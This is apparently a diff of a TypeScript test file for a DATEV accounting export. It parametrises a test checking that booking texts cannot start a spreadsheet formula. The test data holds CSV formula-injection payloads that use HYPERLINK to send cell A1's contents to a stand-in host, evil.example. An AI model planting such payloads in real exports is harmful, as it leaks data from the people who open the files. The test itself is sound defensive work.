@@ -75,12 +75,14 @@ test('names are readable though their letters are not in its alphabet', () => {
   expect(rows[0]!['Buchungstext']).toBe('Yilmaz, Lukasz, Dorde, Sahin, €');
 });
 
-test('no text begins a formula where the file is opened as a table', () => {
-  const [booking] = month;
-  const text = ' =-HYPERLINK("http://evil.example/"&A1)';
-  const { rows } = readDatev(toDatev([{ ...booking!, text }], batch));
-  expect(rows[0]!['Buchungstext']).toBe('HYPERLINK("http://evil.example/"&A1)');
-});
+test.each([' =-HYPERLINK("http://evil.example/"&A1)', '≠HYPERLINK("http://evil.example/"&A1)'])(
+  '%s begins no formula where the file is opened as a table',
+  (text) => {
+    const [booking] = month;
+    const { rows } = readDatev(toDatev([{ ...booking!, text }], batch));
+    expect(rows[0]!['Buchungstext']).toMatch(/^\??HYPERLINK\("http:\/\/evil.example\/"&A1\)$/);
+  },
+);
 
 describe('another program', () => {
   const { head, columns, rows } = readDatev(toDatev(month, batch));
